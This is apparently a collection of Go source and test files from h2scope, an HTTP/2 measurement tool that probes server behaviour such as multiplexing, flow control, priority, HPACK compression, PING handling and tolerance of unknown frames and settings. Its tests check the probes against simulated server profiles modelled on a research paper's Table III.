	"h2scope/internal/metrics"
)

// Metrics is the client connection's pre-built instrument set. Building it
// once (per registry) and sharing it across every dialed connection keeps
// Dial free of registry lookups; all counters are process-cumulative.
type Metrics struct {
	framer *frame.Metrics

	connsOpened *metrics.Counter
	connsClosed *metrics.Counter

	streamsOpened   *metrics.Counter
	resetsSent      *metrics.Counter
	resetsReceived  *metrics.Counter
	goawaysReceived *metrics.Counter

	autoWindowConn   *metrics.Counter
	autoWindowStream *metrics.Counter
}

// NewMetrics registers the client-connection instrument set in r:
//
//	h2_conn_opened_total                      connections dialed
//	h2_conn_closed_total                      connections terminated
//	h2_conn_streams_opened_total              request streams opened
//	h2_conn_streams_reset_total{by=...}       RST_STREAM sent (client) / received (server)
//	h2_conn_goaway_received_total             GOAWAY frames received
//	h2_conn_auto_window_updates_total{scope=...} automatic replenishment WINDOW_UPDATEs
//
// plus the shared framer set (h2_frames_*, h2_frame_bytes_*) counting every
// frame the dialed connections move.
func NewMetrics(r *metrics.Registry) *Metrics {
	return &Metrics{
		framer:      frame.NewMetrics(r),
		connsOpened: r.Counter("h2_conn_opened_total", "client HTTP/2 connections dialed"),
		connsClosed: r.Counter("h2_conn_closed_total", "client HTTP/2 connections terminated (either side)"),
		streamsOpened: r.Counter("h2_conn_streams_opened_total",
			"request streams opened by the client"),
		resetsSent: r.Counter(metrics.Label("h2_conn_streams_reset_total", "by", "client"),
			"streams reset, by which side sent RST_STREAM"),
		resetsReceived: r.Counter(metrics.Label("h2_conn_streams_reset_total", "by", "server"),
			"streams reset, by which side sent RST_STREAM"),
		goawaysReceived: r.Counter("h2_conn_goaway_received_total",
			"GOAWAY frames received from servers"),
		autoWindowConn: r.Counter(metrics.Label("h2_conn_auto_window_updates_total", "scope", "conn"),
			"automatic flow-control replenishment WINDOW_UPDATEs sent"),
		autoWindowStream: r.Counter(metrics.Label("h2_conn_auto_window_updates_total", "scope", "stream"),
			"automatic flow-control replenishment WINDOW_UPDATEs sent"),
	}
}
