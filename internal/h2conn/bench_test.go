package h2conn_test

import (
	"encoding/binary"
	"io"
	"testing"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/netsim"
	"h2scope/internal/trace"
)

// benchEchoServer answers PINGs at the frame level until the peer closes.
func benchEchoServer(b *testing.B, nc *netsim.Conn) {
	b.Helper()
	buf := make([]byte, len(frame.ClientPreface))
	if _, err := io.ReadFull(nc, buf); err != nil {
		return
	}
	fr := frame.NewFramer(nc, nc)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		if p, ok := f.(*frame.PingFrame); ok && !p.IsAck() {
			if err := fr.WritePing(true, p.Data); err != nil {
				return
			}
		}
	}
}

// benchPingLoop measures full client frame round trips (one write and one
// dispatched read per op) with the given options.
func benchPingLoop(b *testing.B, opts h2conn.Options) {
	// Cap the event log well below b.N: an unbounded log makes every Ping
	// predicate rescan all prior events, and that quadratic term would
	// drown the frame I/O being measured.
	opts.EventLogLimit = 16
	clientNC, serverNC := netsim.Pipe()
	go benchEchoServer(b, serverNC)
	c, err := h2conn.Dial(clientNC, opts)
	if err != nil {
		b.Fatalf("Dial: %v", err)
	}
	defer func() {
		_ = c.Close()
		_ = serverNC.Close()
	}()
	b.ResetTimer()
	var payload [8]byte
	for i := 0; i < b.N; i++ {
		binary.BigEndian.PutUint64(payload[:], uint64(i))
		if _, err := c.Ping(payload, 5*time.Second); err != nil {
			b.Fatalf("Ping: %v", err)
		}
	}
}

// BenchmarkConnFrameIO compares frame I/O through a connection with tracing
// disabled and enabled; the traced variant must stay within a few percent
// (the acceptance bound is 10%) of the untraced one.
func BenchmarkConnFrameIO(b *testing.B) {
	b.Run("untraced", func(b *testing.B) {
		benchPingLoop(b, h2conn.DefaultOptions())
	})
	b.Run("traced", func(b *testing.B) {
		opts := h2conn.DefaultOptions()
		// A 1Ki-event ring (vs the 8Ki default) keeps the slot array
		// cache-resident here; capacity changes retention, not the emit path.
		opts.Tracer = trace.New(1024)
		benchPingLoop(b, opts)
	})
}
