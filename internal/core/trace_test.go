package core_test

import (
	"context"
	"net"
	"testing"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/frame"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
	"h2scope/internal/trace"
)

// TestMultiplexingProbeTrace runs the multiplexing probe with a tracer
// attached and checks the recorded frame timeline: the received DATA events
// must carry the "multiplexing" phase annotation and must interleave across
// at least two concurrent streams.
func TestMultiplexingProbeTrace(t *testing.T) {
	srv := server.New(server.ApacheProfile(), server.DefaultSite("testbed.example"))
	l := netsim.NewListener("trace-mux")
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)

	tr := trace.New(0)
	cfg := core.DefaultConfig("testbed.example")
	cfg.Timeout = 5 * time.Second
	cfg.QuietWindow = 20 * time.Millisecond
	cfg.Tracer = tr
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) { return l.Dial() }), cfg)

	res, err := prober.ProbeMultiplexing(context.Background(), 4)
	if err != nil {
		t.Fatalf("ProbeMultiplexing: %v", err)
	}
	if !res.Interleaved {
		t.Fatal("testbed server did not multiplex")
	}

	// The probe's DATA timeline, in arrival order.
	var data []trace.Event
	for _, ev := range tr.Snapshot() {
		if ev.Kind == trace.KindFrameRecv && ev.FrameType == frame.TypeData {
			data = append(data, ev)
		}
	}
	if len(data) == 0 {
		t.Fatal("trace recorded no received DATA frames")
	}
	streams := make(map[uint32]bool)
	for _, ev := range data {
		if ev.Phase != "multiplexing" {
			t.Fatalf("DATA event on stream %d has phase %q, want \"multiplexing\"", ev.StreamID, ev.Phase)
		}
		streams[ev.StreamID] = true
	}
	if len(streams) < 2 {
		t.Fatalf("DATA events cover %d stream(s), want >= 2", len(streams))
	}
	// Collapse the arrival order into runs of equal stream IDs: sequential
	// delivery yields exactly one run per stream, so extra runs mean some
	// stream's DATA arrived between another's first and last frames.
	var runs []uint32
	for _, ev := range data {
		if len(runs) == 0 || runs[len(runs)-1] != ev.StreamID {
			runs = append(runs, ev.StreamID)
		}
	}
	if len(runs) <= len(streams) {
		t.Fatalf("DATA frames not interleaved across streams; run order: %v", runs)
	}
	if tr.Dropped() != 0 {
		t.Errorf("tracer dropped %d events with default capacity", tr.Dropped())
	}
}
