package core

import (
	"context"
	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// ExtensionsResult holds conformance checks beyond the paper's battery —
// the "regular scanning" extensions its future-work section proposes, in
// the spirit of h2spec-style testing.
type ExtensionsResult struct {
	// SettingsAcked reports whether the server acknowledged the client's
	// SETTINGS frame (RFC 7540 section 6.5.3 requires it).
	SettingsAcked bool
	// UnknownFrameIgnored reports whether the server ignored a frame of an
	// unknown type and kept serving (RFC 7540 section 4.1 requires it).
	UnknownFrameIgnored bool
	// UnknownSettingIgnored reports whether the server ignored an unknown
	// SETTINGS identifier (RFC 7540 section 6.5.2 requires it).
	UnknownSettingIgnored bool
	// PingAckPrioritized reports whether a PING sent while a bulk response
	// is in flight is answered before the transfer completes — RFC 7540
	// section 6.7's SHOULD, which the paper leans on for RTT accuracy.
	PingAckPrioritized bool
}

// ProbeExtensions runs the beyond-paper conformance checks.
func (p *Prober) ProbeExtensions(ctx context.Context) (*ExtensionsResult, error) {
	defer p.phase("extensions")()
	res := &ExtensionsResult{}
	if err := p.probeSettingsAckAndUnknowns(ctx, res); err != nil {
		return nil, err
	}
	if err := p.probePingPriority(ctx, res); err != nil {
		return nil, err
	}
	return res, nil
}

func (p *Prober) probeSettingsAckAndUnknowns(ctx context.Context, res *ExtensionsResult) error {
	opts := h2conn.Options{
		// An unknown SETTINGS identifier rides along with the handshake.
		Settings:        []frame.Setting{{ID: frame.SettingID(0xF0F0), Val: 1}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return err
	}
	// SETTINGS ACK for our (unknown-carrying) SETTINGS frame.
	events, _ := c.WaitFor(p.reactionWindow(), func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeSettings && e.IsAck() {
				return true
			}
		}
		return false
	})
	for _, e := range events {
		if e.Type == frame.TypeSettings && e.IsAck() {
			res.SettingsAcked = true
		}
		if e.Type == frame.TypeGoAway {
			return nil // unknown setting killed the connection: both fail
		}
	}
	res.UnknownSettingIgnored = res.SettingsAcked

	// An unknown frame type must be ignored; the connection must still
	// answer a request afterwards.
	if err := c.WriteUnknownFrame(0xBE, 0x7, []byte{0xde, 0xad}); err != nil {
		return err
	}
	resp, err := c.FetchBody(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.SmallPath}, p.cfg.Timeout)
	if err == nil && resp.Status() == "200" {
		res.UnknownFrameIgnored = true
	}
	return nil
}

func (p *Prober) probePingPriority(ctx context.Context, res *ExtensionsResult) error {
	// Open a bulk transfer that stalls on the 65,535-octet connection
	// window, ping while the response is incomplete, and require the ACK to
	// arrive before the transfer's final DATA frame (which we only unblock
	// afterwards with WINDOW_UPDATE). A server that queues the PING behind
	// the pending response bytes fails.
	opts := h2conn.Options{AutoSettingsAck: true, AutoPingAck: true}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return err
	}
	id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[0]})
	if err != nil {
		return err
	}
	// Wait for the first DATA so the transfer is in flight (and stalled).
	if _, err := c.WaitFor(p.cfg.Timeout, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeData && e.StreamID == id {
				return true
			}
		}
		return false
	}); err != nil {
		return err
	}
	data := [8]byte{'p', 'r', 'i', 'o'}
	if err := c.WritePing(data); err != nil {
		return err
	}
	ackEvents, err := c.WaitFor(p.reactionWindow(), func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypePing && e.IsAck() && e.PingData == data {
				return true
			}
		}
		return false
	})
	if err != nil {
		return nil // no ACK while stalled: not prioritized
	}
	transferDone := false
	for _, e := range ackEvents {
		if e.Type == frame.TypeData && e.StreamID == id && e.StreamEnded() {
			transferDone = true
		}
	}
	// Unblock and drain the rest of the transfer.
	if err := c.WriteWindowUpdate(0, frame.MaxWindowSize); err != nil {
		return err
	}
	if err := c.WriteWindowUpdate(id, 1<<20); err != nil {
		return err
	}
	_, _ = c.WaitFor(p.cfg.Timeout, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeData && e.StreamID == id && e.StreamEnded() {
				return true
			}
		}
		return false
	})
	res.PingAckPrioritized = !transferDone
	return nil
}
