package core_test

import (
	"context"
	"net"
	"sync"
	"testing"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/http1"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

// newProber starts a profile server over an in-memory listener and returns
// a prober aimed at it.
func newProber(t *testing.T, p server.Profile) *core.Prober {
	t.Helper()
	srv := server.New(p, server.DefaultSite("testbed.example"))
	l := netsim.NewListener(p.Name)
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)
	cfg := core.DefaultConfig("testbed.example")
	cfg.Timeout = 5 * time.Second
	cfg.QuietWindow = 20 * time.Millisecond
	return core.NewProber(core.DialerFunc(func() (net.Conn, error) { return l.Dial() }), cfg)
}

// tableIIIExpectation is one column of the paper's Table III.
type tableIIIExpectation struct {
	profile           server.Profile
	flowOnHeaders     bool
	zeroWUStream      core.Observation
	zeroWUConn        core.Observation
	push              bool
	priorityPass      bool
	selfDep           core.Observation
	headerCompression string
}

func tableIII() []tableIIIExpectation {
	return []tableIIIExpectation{
		{
			profile:           server.NginxProfile(),
			zeroWUStream:      core.ObserveIgnore,
			zeroWUConn:        core.ObserveIgnore,
			selfDep:           core.ObserveRSTStream,
			headerCompression: "support*",
		},
		{
			profile:           server.LiteSpeedProfile(),
			flowOnHeaders:     true,
			zeroWUStream:      core.ObserveRSTStream,
			zeroWUConn:        core.ObserveGoAway,
			selfDep:           core.ObserveIgnore,
			headerCompression: "support",
		},
		{
			profile:           server.H2OProfile(),
			zeroWUStream:      core.ObserveRSTStream,
			zeroWUConn:        core.ObserveGoAway,
			push:              true,
			priorityPass:      true,
			selfDep:           core.ObserveGoAway,
			headerCompression: "support",
		},
		{
			profile:           server.NghttpdProfile(),
			zeroWUStream:      core.ObserveGoAway,
			zeroWUConn:        core.ObserveGoAway,
			push:              true,
			priorityPass:      true,
			selfDep:           core.ObserveGoAway,
			headerCompression: "support",
		},
		{
			profile:           server.TengineProfile(),
			zeroWUStream:      core.ObserveIgnore,
			zeroWUConn:        core.ObserveIgnore,
			selfDep:           core.ObserveRSTStream,
			headerCompression: "support*",
		},
		{
			profile:           server.ApacheProfile(),
			zeroWUStream:      core.ObserveGoAway,
			zeroWUConn:        core.ObserveGoAway,
			push:              true,
			priorityPass:      true,
			selfDep:           core.ObserveGoAway,
			headerCompression: "support",
		},
	}
}

// TestTableIIIMatrix is the paper's Table III, re-measured: the full probe
// battery against all six testbed profiles, asserting every divergent cell.
func TestTableIIIMatrix(t *testing.T) {
	for _, exp := range tableIII() {
		exp := exp
		t.Run(exp.profile.Family, func(t *testing.T) {
			t.Parallel()
			prober := newProber(t, exp.profile)
			r, err := prober.Run()
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if len(r.Errors) > 0 {
				t.Fatalf("probe errors: %v", r.Errors)
			}
			if !r.SupportsMultiplexing() {
				t.Error("Request Multiplexing = no support, want support")
			}
			if !r.FlowControlOnData() {
				t.Errorf("Flow Control on DATA = no (class %v), want yes", r.FlowData.Class)
			}
			if got := r.FlowControlOnHeaders(); got != exp.flowOnHeaders {
				t.Errorf("Flow Control on HEADERS = %v, want %v", got, exp.flowOnHeaders)
			}
			if r.ZeroWU.Stream != exp.zeroWUStream {
				t.Errorf("Zero WU stream = %v, want %v", r.ZeroWU.Stream, exp.zeroWUStream)
			}
			if r.ZeroWU.Conn != exp.zeroWUConn {
				t.Errorf("Zero WU conn = %v, want %v", r.ZeroWU.Conn, exp.zeroWUConn)
			}
			if r.LargeWU.Conn != core.ObserveGoAway {
				t.Errorf("Large WU conn = %v, want GOAWAY", r.LargeWU.Conn)
			}
			if r.LargeWU.Stream != core.ObserveRSTStream {
				t.Errorf("Large WU stream = %v, want RST_STREAM", r.LargeWU.Stream)
			}
			if got := r.Push.Supported; got != exp.push {
				t.Errorf("Server Push = %v, want %v", got, exp.push)
			}
			if got := r.Priority.Pass; got != exp.priorityPass {
				t.Errorf("Priority (Algorithm 1) = %v, want %v (last=%v first=%v completed=%d)",
					got, exp.priorityPass, r.Priority.LastRuleOK, r.Priority.FirstRuleOK, r.Priority.Completed)
			}
			if r.SelfDep.Reaction != exp.selfDep {
				t.Errorf("Self-dependent stream = %v, want %v", r.SelfDep.Reaction, exp.selfDep)
			}
			if got := r.HeaderCompressionVerdict(); got != exp.headerCompression {
				t.Errorf("Header Compression = %q (ratio %.3f), want %q", got, r.HPACK.Ratio, exp.headerCompression)
			}
			if !r.Ping.Supported {
				t.Error("HTTP/2 PING = no support, want support")
			}
			if row := r.TableIIIRow(); len(row) != len(core.TableIIIRowNames) {
				t.Errorf("TableIIIRow has %d cells, want %d", len(row), len(core.TableIIIRowNames))
			}
		})
	}
}

func TestSettingsProbeReadsAdvertisement(t *testing.T) {
	p := server.H2OProfile()
	prober := newProber(t, p)
	res, err := prober.ProbeSettings(context.Background())
	if err != nil {
		t.Fatalf("ProbeSettings: %v", err)
	}
	if !res.GotHeaders {
		t.Error("GotHeaders = false")
	}
	if res.ServerHeader != p.Name {
		t.Errorf("ServerHeader = %q, want %q", res.ServerHeader, p.Name)
	}
	if v, ok := res.Value(4); !ok || v != p.InitialWindowSize { // SETTINGS_INITIAL_WINDOW_SIZE
		t.Errorf("INITIAL_WINDOW_SIZE = %d,%v, want %d,true", v, ok, p.InitialWindowSize)
	}
}

func TestPriorityProbeDetailsOnPriorityServer(t *testing.T) {
	prober := newProber(t, server.NghttpdProfile())
	res, err := prober.ProbePriority(context.Background())
	if err != nil {
		t.Fatalf("ProbePriority: %v", err)
	}
	if res.DrainStreams < 1 {
		t.Errorf("DrainStreams = %d, want >= 1", res.DrainStreams)
	}
	if res.Completed != 6 {
		t.Errorf("Completed = %d, want 6", res.Completed)
	}
	if !res.LastRuleOK || !res.FirstRuleOK || !res.Pass {
		t.Errorf("rules: last=%v first=%v pass=%v, want all true", res.LastRuleOK, res.FirstRuleOK, res.Pass)
	}
	if !res.HeadersWhileBlocked {
		t.Error("HeadersWhileBlocked = false, want true for a compliant server")
	}
}

func TestPriorityProbeLiteSpeedWithholdsHeaders(t *testing.T) {
	prober := newProber(t, server.LiteSpeedProfile())
	res, err := prober.ProbePriority(context.Background())
	if err != nil {
		t.Fatalf("ProbePriority: %v", err)
	}
	if res.HeadersWhileBlocked {
		t.Error("HeadersWhileBlocked = true, want false (flow control applied to HEADERS)")
	}
	if res.Pass {
		t.Error("Pass = true, want false for round-robin scheduling")
	}
}

func TestZeroWindowUpdateDebugData(t *testing.T) {
	p := server.ApacheProfile()
	p.ZeroWindowDebugData = true
	prober := newProber(t, p)
	res, err := prober.ProbeZeroWindowUpdate(context.Background())
	if err != nil {
		t.Fatalf("ProbeZeroWindowUpdate: %v", err)
	}
	if res.Conn != core.ObserveGoAway {
		t.Fatalf("Conn = %v, want GOAWAY", res.Conn)
	}
	if res.ConnDebugData == "" {
		t.Error("ConnDebugData empty, want explanatory text")
	}
}

func TestTinyWindowClasses(t *testing.T) {
	silent := server.LiteSpeedProfile()
	silent.TinyWindow = server.TinyWindowSilent
	zero := server.NginxProfile()
	zero.TinyWindow = server.TinyWindowZeroData
	tests := []struct {
		name    string
		profile server.Profile
		want    core.TinyWindowClass
	}{
		{"comply", server.ApacheProfile(), core.TinyWindowOneByte},
		{"zero-data", zero, core.TinyWindowZeroLen},
		{"silent", silent, core.TinyWindowNothing},
	}
	for _, tt := range tests {
		tt := tt
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			prober := newProber(t, tt.profile)
			res, err := prober.ProbeFlowControlData(context.Background(), 1)
			if err != nil {
				t.Fatalf("ProbeFlowControlData: %v", err)
			}
			if res.Class != tt.want {
				t.Errorf("Class = %v, want %v", res.Class, tt.want)
			}
		})
	}
}

func TestHPACKProbeRatios(t *testing.T) {
	nginx := newProber(t, server.NginxProfile())
	rn, err := nginx.ProbeHPACK(context.Background())
	if err != nil {
		t.Fatalf("ProbeHPACK(nginx): %v", err)
	}
	if rn.Ratio < 0.99 {
		t.Errorf("nginx ratio = %.3f, want ~1", rn.Ratio)
	}
	gse := newProber(t, server.H2OProfile())
	rg, err := gse.ProbeHPACK(context.Background())
	if err != nil {
		t.Fatalf("ProbeHPACK(h2o): %v", err)
	}
	if rg.Ratio > 0.5 {
		t.Errorf("h2o ratio = %.3f, want < 0.5", rg.Ratio)
	}
	if len(rg.BlockSizes) != rg.Requests {
		t.Errorf("BlockSizes len = %d, want %d", len(rg.BlockSizes), rg.Requests)
	}
}

func TestPingProbeCollectsRTTs(t *testing.T) {
	prober := newProber(t, server.NginxProfile())
	res, err := prober.ProbePing(context.Background())
	if err != nil {
		t.Fatalf("ProbePing: %v", err)
	}
	if !res.Supported || len(res.RTTs) == 0 {
		t.Fatalf("Supported=%v RTTs=%v", res.Supported, res.RTTs)
	}
	if res.Min() <= 0 {
		t.Errorf("Min() = %v, want > 0", res.Min())
	}
}

func TestSchedulingModePartialCompliance(t *testing.T) {
	// The population's dominant partially-compliant behavior: last-DATA
	// order obeys the tree while first-DATA order does not.
	lastOnly := server.H2OProfile()
	lastOnly.Scheduling = server.SchedPriorityLastOnly
	prober := newProber(t, lastOnly)
	res, err := prober.ProbePriority(context.Background())
	if err != nil {
		t.Fatalf("ProbePriority: %v", err)
	}
	if !res.LastRuleOK {
		t.Error("LastRuleOK = false, want true")
	}
	if res.FirstRuleOK {
		t.Error("FirstRuleOK = true, want false for eager-first scheduling")
	}
	if res.Pass {
		t.Error("Pass = true, want false")
	}
}

func TestProbeExtensionsCompliantServer(t *testing.T) {
	prober := newProber(t, server.ApacheProfile())
	res, err := prober.ProbeExtensions(context.Background())
	if err != nil {
		t.Fatalf("ProbeExtensions: %v", err)
	}
	if !res.SettingsAcked {
		t.Error("SettingsAcked = false")
	}
	if !res.UnknownSettingIgnored {
		t.Error("UnknownSettingIgnored = false")
	}
	if !res.UnknownFrameIgnored {
		t.Error("UnknownFrameIgnored = false")
	}
	if !res.PingAckPrioritized {
		t.Error("PingAckPrioritized = false")
	}
}

func TestProbeExtensionsPingDisabled(t *testing.T) {
	p := server.NginxProfile()
	p.AnswerPing = false
	prober := newProber(t, p)
	res, err := prober.ProbeExtensions(context.Background())
	if err != nil {
		t.Fatalf("ProbeExtensions: %v", err)
	}
	if res.PingAckPrioritized {
		t.Error("PingAckPrioritized = true for a server that never ACKs PING")
	}
}

func TestProbeH2CUpgrade(t *testing.T) {
	// An HTTP/1.1 front end with h2c support accepts the upgrade and
	// serves HTTP/2 on the same connection; one without it refuses.
	site := server.DefaultSite("h2c.example")
	h2srv := server.New(server.NginxProfile(), site)
	withH2C := &http1.Handler{Site: site, ServerName: "front/1.0", H2C: h2srv}
	withoutH2C := &http1.Handler{Site: site, ServerName: "front/1.0"}

	start := func(h *http1.Handler) *netsim.Listener {
		l := netsim.NewListener("h2c-probe")
		go func() {
			_ = h.Serve(l)
		}()
		t.Cleanup(func() {
			_ = l.Close()
		})
		return l
	}
	cfg := core.DefaultConfig("h2c.example")
	cfg.QuietWindow = 10 * time.Millisecond

	l := start(withH2C)
	p := core.NewProber(core.DialerFunc(func() (net.Conn, error) { return l.Dial() }), cfg)
	res, err := p.ProbeH2CUpgrade(context.Background())
	if err != nil {
		t.Fatalf("ProbeH2CUpgrade: %v", err)
	}
	if !res.UpgradeAccepted || !res.H2Works {
		t.Errorf("with h2c: %+v, want accepted and working", res)
	}

	l2 := start(withoutH2C)
	p2 := core.NewProber(core.DialerFunc(func() (net.Conn, error) { return l2.Dial() }), cfg)
	res2, err := p2.ProbeH2CUpgrade(context.Background())
	if err != nil {
		t.Fatalf("ProbeH2CUpgrade: %v", err)
	}
	if res2.UpgradeAccepted {
		t.Errorf("without h2c: %+v, want refused", res2)
	}
}

func TestMultiplexingProbeDetectsSequentialServer(t *testing.T) {
	// The probe's negative case: a server that serves one whole response
	// at a time shows no interleaving.
	p := server.NginxProfile()
	p.Scheduling = server.SchedSequential
	prober := newProber(t, p)
	res, err := prober.ProbeMultiplexing(context.Background(), 4)
	if err != nil {
		t.Fatalf("ProbeMultiplexing: %v", err)
	}
	if res.Interleaved {
		t.Error("Interleaved = true for a sequential server")
	}
	if res.Completed != 4 {
		t.Errorf("Completed = %d, want 4", res.Completed)
	}
}

func TestRunAgainstDeadTargetFails(t *testing.T) {
	cfg := core.DefaultConfig("dead.example")
	cfg.Timeout = 200 * time.Millisecond
	cfg.QuietWindow = 10 * time.Millisecond
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) {
		return nil, net.ErrClosed
	}), cfg)
	r, err := prober.Run()
	if err == nil {
		t.Fatal("Run against dead target succeeded")
	}
	if r == nil || len(r.Errors) == 0 {
		t.Fatal("no partial report or errors recorded")
	}
}

func TestRunAgainstSilentTargetFails(t *testing.T) {
	// A listener that accepts and never speaks: ProbeSettings must time
	// out rather than hang.
	l := netsim.NewListener("silent")
	go func() {
		for {
			nc, err := l.Accept()
			if err != nil {
				return
			}
			_ = nc // accepted, never answered
		}
	}()
	t.Cleanup(func() { _ = l.Close() })
	cfg := core.DefaultConfig("silent.example")
	cfg.Timeout = 200 * time.Millisecond
	cfg.QuietWindow = 10 * time.Millisecond
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) { return l.Dial() }), cfg)
	start := time.Now()
	if _, err := prober.Run(); err == nil {
		t.Fatal("Run against silent target succeeded")
	}
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Fatalf("Run hung for %v", elapsed)
	}
}

func TestTableIIIRowHandlesPartialReport(t *testing.T) {
	r := &core.Report{Authority: "partial.example"}
	row := r.TableIIIRow()
	if len(row) != len(core.TableIIIRowNames) {
		t.Fatalf("row cells = %d, want %d", len(row), len(core.TableIIIRowNames))
	}
	for i, cell := range row {
		if cell == "" {
			t.Errorf("cell %d empty", i)
		}
	}
	if r.PriorityVerdict() != "fail" || r.PushVerdict() != "no" ||
		r.HeaderCompressionVerdict() != "unknown" || r.PingVerdict() != "no support" {
		t.Error("nil-safe verdicts wrong")
	}
	if r.MinPingRTT() != 0 {
		t.Error("MinPingRTT on empty report != 0")
	}
}

func TestProbeMultiplexingNeedsTwoObjects(t *testing.T) {
	cfg := core.DefaultConfig("x")
	cfg.LargePaths = []string{"/only-one"}
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) {
		return nil, net.ErrClosed
	}), cfg)
	if _, err := prober.ProbeMultiplexing(context.Background(), 4); err == nil {
		t.Fatal("multiplexing probe with one object succeeded")
	}
}

func TestMultiplexingProbeHonorsAdvertisedStreamLimit(t *testing.T) {
	// Section III-A.1: N stays below SETTINGS_MAX_CONCURRENT_STREAMS, so a
	// low advertised limit must not draw REFUSED_STREAM resets.
	p := server.ApacheProfile()
	p.MaxConcurrentStreams = 2
	prober := newProber(t, p)
	res, err := prober.ProbeMultiplexing(context.Background(), 4)
	if err != nil {
		t.Fatalf("ProbeMultiplexing: %v", err)
	}
	if res.Streams != 2 {
		t.Errorf("Streams = %d, want clamped to 2", res.Streams)
	}
	if !res.Interleaved {
		t.Error("Interleaved = false with two concurrent streams")
	}
	if res.Completed != 2 {
		t.Errorf("Completed = %d, want 2 (no refused streams)", res.Completed)
	}
}

// deadlineRecorder wraps a net.Conn and records every SetDeadline call, so
// tests can verify a context deadline reaches the transport.
type deadlineRecorder struct {
	net.Conn
	mu        sync.Mutex
	deadlines []time.Time
}

func (d *deadlineRecorder) SetDeadline(t time.Time) error {
	d.mu.Lock()
	d.deadlines = append(d.deadlines, t)
	d.mu.Unlock()
	return d.Conn.SetDeadline(t)
}

func (d *deadlineRecorder) recorded() []time.Time {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]time.Time(nil), d.deadlines...)
}

func TestProbeAppliesContextDeadlineToTransport(t *testing.T) {
	srv := server.New(server.NginxProfile(), server.DefaultSite("testbed.example"))
	l := netsim.NewListener("deadline")
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(srv.Close)

	rec := &deadlineRecorder{}
	cfg := core.DefaultConfig("testbed.example")
	cfg.Timeout = 2 * time.Second
	cfg.QuietWindow = 10 * time.Millisecond
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) {
		nc, err := l.Dial()
		if err != nil {
			return nil, err
		}
		rec.Conn = nc
		return rec, nil
	}), cfg)

	want := time.Now().Add(time.Minute)
	ctx, cancel := context.WithDeadline(context.Background(), want)
	defer cancel()
	if _, err := prober.ProbeSettings(ctx); err != nil {
		t.Fatalf("ProbeSettings: %v", err)
	}
	for _, d := range rec.recorded() {
		if d.Equal(want) {
			return
		}
	}
	t.Fatalf("context deadline %v never applied to the transport (saw %v)", want, rec.recorded())
}

func TestProbeCanceledContextFailsWithoutDialing(t *testing.T) {
	dials := 0
	cfg := core.DefaultConfig("testbed.example")
	prober := core.NewProber(core.DialerFunc(func() (net.Conn, error) {
		dials++
		return nil, net.ErrClosed
	}), cfg)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := prober.ProbeSettings(ctx); err == nil {
		t.Fatal("ProbeSettings with canceled context succeeded")
	}
	if _, err := prober.ProbeH2CUpgrade(ctx); err == nil {
		t.Fatal("ProbeH2CUpgrade with canceled context succeeded")
	}
	if dials != 0 {
		t.Fatalf("canceled context still dialed %d time(s)", dials)
	}
}
