package core

import (
	"context"
	"fmt"
	"strconv"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/hpack"
)

// SettingsResult captures the server's SETTINGS advertisement and identity
// (Section V-B, V-C; Tables IV-VII; Figure 2).
type SettingsResult struct {
	// Settings is the raw advertisement in wire order.
	Settings []frame.Setting
	// ServerHeader is the "server" response header value.
	ServerHeader string
	// GotHeaders reports whether any HEADERS frame was received — the
	// paper's criterion for a working HTTP/2 site.
	GotHeaders bool
}

// Value returns the advertised value for id, if present.
func (r *SettingsResult) Value(id frame.SettingID) (uint32, bool) {
	var (
		val   uint32
		found bool
	)
	for _, s := range r.Settings {
		if s.ID == id {
			val, found = s.Val, true
		}
	}
	return val, found
}

// ProbeSettings records the server's SETTINGS frame and fetches one small
// page to learn the server header.
func (p *Prober) ProbeSettings(ctx context.Context) (*SettingsResult, error) {
	defer p.phase("settings")()
	c, err := p.connect(ctx, h2conn.DefaultOptions())
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	res := &SettingsResult{}
	ev, err := c.WaitSettings(p.cfg.Timeout)
	if err != nil {
		return nil, fmt.Errorf("core: no SETTINGS from server: %w", err)
	}
	res.Settings = ev.Settings
	resp, err := c.FetchBody(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.SmallPath}, p.cfg.Timeout)
	if err == nil && resp.HeadersSeq >= 0 {
		res.GotHeaders = true
		res.ServerHeader = resp.Header("server")
	}
	return res, nil
}

// MultiplexResult reports the request-multiplexing probe (Section III-A.1).
type MultiplexResult struct {
	// Streams is the number of concurrent downloads issued (N).
	Streams int
	// Interleaved reports whether responses overlapped on the wire rather
	// than arriving strictly one-after-another.
	Interleaved bool
	// Completed is the number of downloads that finished.
	Completed int
}

